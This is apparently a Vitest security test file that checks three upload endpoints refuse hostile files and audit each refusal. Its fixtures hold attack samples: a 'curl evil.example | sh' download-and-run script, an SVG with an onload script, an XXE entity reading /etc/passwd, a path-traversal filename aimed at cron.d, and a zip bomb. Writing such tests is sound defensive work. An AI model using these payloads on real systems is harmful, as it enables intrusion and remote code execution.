import { mkdtempSync, readdirSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import yazl from 'yazl'
import { modules } from '#modules'
import { filesContract } from '#contracts/files'
import { importsContract } from '#contracts/imports'
import { interactionsContract } from '#contracts/interactions'
import { sql } from '#kernel/db'
import { testApp, type TestApp } from '#kernel/testing'
import { shipCatalogues } from './ship.ts'

/** What people who mean harm upload, at every place that takes a file: a refusal in words, an audit entry, and nothing left behind. */
const dir = mkdtempSync(join(tmpdir(), 'clearline-hostile-'))
let app: TestApp
let visitor: string
beforeAll(async () => {
  app = await testApp(modules, { env: { FILES_DIR: dir, FILES_MAX_BYTES: '1000000' } })
  await shipCatalogues(app.host)
  const chat = app.as(interactionsContract)
  const account = (await chat.listChannelAccounts({ filter: { channel: 'webChat' } })).items[0]!
  visitor = (await chat.startChat({ accountId: account.id } as never)).token!
})
afterAll(async () => {
  await app.close()
  rmSync(dir, { recursive: true, force: true })
})

const program = Buffer.concat([Buffer.from('MZ\u0090\u0000'), Buffer.alloc(300, 1)])
const elf = Buffer.concat([Buffer.from('\u007fELF\u0002\u0001\u0001', 'latin1'), Buffer.alloc(300, 1)])
const page = Buffer.from('<!doctype html><script>fetch("/api/identity/v1/whoAmI")</script>')
const drawing = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')
const script = Buffer.from('#!/bin/sh\ncurl evil.example | sh\n')
const zipOf = async (entries: Record<string, Buffer>) => {
  const zip = new yazl.ZipFile()
  for (const [name, bytes] of Object.entries(entries)) zip.addBuffer(bytes, name)
  zip.end()
  const parts: Buffer[] = []
  for await (const part of zip.outputStream) parts.push(part as Buffer)
  return Buffer.concat(parts)
}
const types = Buffer.from(
  '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>',
)
const bomb = await zipOf({ '[Content_Types].xml': types, 'xl/workbook.xml': Buffer.alloc(80_000_000, 32) })
const entities = await zipOf({
  '[Content_Types].xml': types,
  'xl/workbook.xml': Buffer.from('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><workbook>&x;</workbook>'),
})

interface Place {
  readonly operation: string
  readonly path: string
  readonly headers?: () => Record<string, string>
}
const places: readonly Place[] = [
  { operation: 'uploadFile', path: '/api/files/v1/file' },
  { operation: 'uploadImport', path: '/api/imports/v1/run' },
  {
    operation: 'uploadChatFile',
    path: '/api/interactions/v1/chat/file',
    headers: () => ({ 'x-clearline-visitor': visitor }),
  },
]
const onDisk = () =>
  readdirSync(dir, { recursive: true, withFileTypes: true })
    .filter((f) => f.isFile())
    .map((f) => join(f.parentPath, f.name))
    .toSorted()
const refusals = async (operation: string) =>
  (
    await sql<{ after: { code: string } }>`
      select after from kernel.audit_entry where noun = 'refusal' and operation = ${operation} order by id desc limit 1`.execute(
      app.db,
    )
  ).rows[0]?.after.code

describe.each(places)('$operation', ({ operation, path, headers }) => {
  test.each([
    ['a Windows program called a picture', 'photo.png', program],
    ['a Linux program without an ending', 'photo', elf],
    ['a page called a picture', 'photo.jpg', page],
    ['a drawing with a script in it', 'logo.svg', drawing],
    ['a script called a text', 'notes.txt', script],
    ['a name that leads out of the folder, and a program', '../../../etc/cron.d/x', program],
    ['an XLSX that unpacks to eighty megabytes', 'book.xlsx', bomb],
    ['an XLSX that reads our files', 'book.xlsx', entities],
    ['nothing at all', 'empty.csv', Buffer.alloc(0)],
  ])('refuses %s', async (what, name, bytes) => {
    const before = onDisk()
    const response = await app.fetch(`${path}?name=${encodeURIComponent(name)}`, {
      method: 'POST',
      body: new Uint8Array(bytes),
      headers: { 'accept-language': 'zh-CN', ...headers?.() },
    })
    // An attachment is never unpacked by us: a workbook is one, whatever is in it. To an import any text is a table of one column.
    if (/XLSX/.test(what) !== (operation === 'uploadImport') && /XLSX|called a text|a drawing/.test(what))
      return expect(response.status).toBe(201)
    const { code, reason } = (await response.json()) as { code: string; reason: string }
    expect([400, 413, 415]).toContain(response.status)
    expect(reason).toMatch(/[\u4e00-\u9fff]/)
    expect(await refusals(operation)).toBe(code)
    expect(onDisk()).toEqual(before)
  })
})

test('what is honest is taken as before', async () => {
  const file = await app.as(filesContract).uploadFile({ name: '说明.txt' }, { body: '宽带报障说明' })
  expect(file.mediaType).toBe('text/plain')
  const run = await app
    .as(importsContract)
    .uploadImport({ name: '客户.csv' }, { body: '姓名,电话\n王芳,13800005678\n' })
  expect(run.fileName).toBe('客户.csv')
})
